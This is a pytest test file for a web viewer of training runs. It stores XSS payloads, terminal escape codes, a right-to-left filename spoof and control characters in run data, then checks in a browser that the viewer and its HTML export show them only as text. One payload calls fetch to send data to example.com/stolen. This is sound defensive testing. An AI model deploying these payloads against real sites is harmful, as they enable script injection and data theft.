"""Hostile content is shown as text: in tasks, messages, replies, tool results, errors, reasons, names and settings."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from browser import Looker, chromium
from made_runs import SIZE, MadeRun

from headrace.data.episode import Episode
from headrace.viewer.export import export_html
from headrace.viewer.options import ViewOptions
from headrace.viewer.run import running
from headrace.viewer.store import RunShelf

HOSTILE = {
    "script": "<script>window.hacked = 1</script>",
    "image": "<img src=x onerror=\"window.hacked = 1; fetch('http://example.com/stolen')\">",
    "svg": "<svg/onload=alert(1)><a href='javascript:window.hacked=1'>x</a>",
    "closing": '</pre></script></style><iframe srcdoc="<script>parent.hacked=1</script>">',
    "attribute": '" onmouseover="window.hacked=1" x=\'',
    "template": "{{constructor.constructor('window.hacked=1')()}}${window.hacked=1}",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "direction": "abc\u202egnp.exe\u202c\u200b\ufeff",
    "surrogate": "half \ud800 pair \udfff",
    "nothing": "\x00\x01\x02\x7f\x9b",
    "link": "javascript:window.hacked=1",
    "long": "A" * 1_000_000,
}
_INTRUDERS = "main script, main iframe, main object, main embed, main img, main [onerror], main [onload], main [srcdoc]"


class HostileRun(MadeRun):
    """Every text of it is what it is given."""

    def record(self, text: str) -> None:
        storable = text.encode("utf-8", "replace").decode()  # what files of settings and metrics can hold
        with self.begin(workflow__name=storable[:5000]) as ledger:
            self.make_group(ledger, 0.5, task=text[:5000], reply=storable[:20_000])
            broken = self.group
            ledger.dispatched(broken, (0, broken), text[:5000], text[:200], SIZE, 0)
            for rollout in range(SIZE):
                ledger.started(broken, rollout, 0, 1)
                asked = [{"role": text[:100], "content": text, "name": text[:100]}]
                output = replace(self._said("x", self._ids("y"), 0), text=text, content=text, reasoning=text)
                output = replace(output, tool_calls=({"function": {"name": text[:100], "arguments": text}},))
                place = (broken, rollout, 0)
                ledger.called(*place, output, role=text[:50], seed=1, request_digest="a", messages=asked)
                ledger.resulted(*place, 0, kind="tool", name=text[:50], request_digest="t", payload={text[:50]: text})
                episode = Episode(text[:5000], (), broken, rollout, 0, 1, text[:200], text[:100], error=text)
                ledger.finished(replace(episode, metrics={text[:50]: 1.0}), 0.1)
            ledger.decided(broken, "failed", reason=text, step=0, failed=SIZE)
            ledger.decided(0, "filtered", reason=text, step=0, filtered=SIZE)
            ledger.batch(0, 0, [])
        self.step = 1
        self.write_metrics(0.5, {f"episode/{storable[:200]}": 1.0})
        log = json.dumps(storable)[1:-1]
        (self.folder / "log.txt").write_text(f"2026-01-01 10:00:00,000 WARNING {log}\n")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    for name, text in HOSTILE.items():
        HostileRun(folder / name).record(text)
    HostileRun(folder / '<img src=x onerror="window.hacked=1">').record("a run with a hostile name")
    return folder


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def looker(browser: Any, root: Path) -> Iterator[Looker]:
    with running(ViewOptions(root=root)) as url:
        made = Looker(browser, url)
        yield made
        made.close()


def check_unharmed(looker: Looker, where: str) -> None:
    """No script ran, no element was made of a text, nothing was asked of anybody else."""
    page = looker.page
    assert page.evaluate("() => window.hacked") is None, where
    assert page.locator(_INTRUDERS).count() == 0, where
    assert page.locator('main a[href^="javascript:"]').count() == 0, where
    assert looker.errors == [] and looker.foreign == [], where


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_content_is_shown_as_text(looker: Looker, name: str) -> None:
    for rest in ("", "/step/1", "/group/0", "/group/1", "/group/0/rollout/0", "/group/1/rollout/0", "/settings"):
        page = looker.open(f"#/run/{name}{rest}")
        for tokens in page.locator(".said.assistant .tokens .tok").all()[:1]:
            tokens.hover()
        check_unharmed(looker, f"{name}{rest}")
    looker.open(f"#/run/{name}/search?failed=1")
    check_unharmed(looker, name)
    said = looker.text()
    if name in ("script", "image", "svg", "closing", "attribute", "template", "link"):
        assert HOSTILE[name][:30] in said


def test_control_characters_are_visible_signs(looker: Looker) -> None:
    looker.open("#/run/terminal/group/1")
    assert "␛[31mred" in looker.text() and "\x1b" not in looker.text()
    looker.open("#/run/direction/group/1")
    assert "⟨U+202E⟩" in looker.text() and "\u202e" not in looker.text()


def test_a_message_of_a_megabyte_is_shown_when_it_is_asked_for(looker: Looker) -> None:
    page = looker.open("#/run/long/group/1/rollout/0")
    assert len(looker.text()) < 200_000
    page.click("text=show all 1,000,000 characters >> nth=0")
    assert len(looker.text()) > 1_000_000
    check_unharmed(looker, "long")


def test_a_run_with_a_hostile_name_is_listed_and_opened(looker: Looker) -> None:
    page = looker.open()
    check_unharmed(looker, "list")
    page.click("td a:has-text('onerror')")
    page.wait_for_selector(".tabs")
    check_unharmed(looker, "run")


def test_an_exported_file_shows_it_as_text_too(browser: Any, root: Path, tmp_path: Path) -> None:
    shelf = RunShelf(root)
    export_html(shelf, tmp_path / "hostile.html", None, 50.0)
    shelf.close()
    looker = Looker(browser, (tmp_path / "hostile.html").as_uri(), offline=True)
    for name in ("script", "image", "closing"):
        for rest in ("", "/step/1", "/group/0/rollout/0"):
            looker.open(f"#/run/{name}{rest}")
            check_unharmed(looker, f"{name}{rest}")
    looker.close()
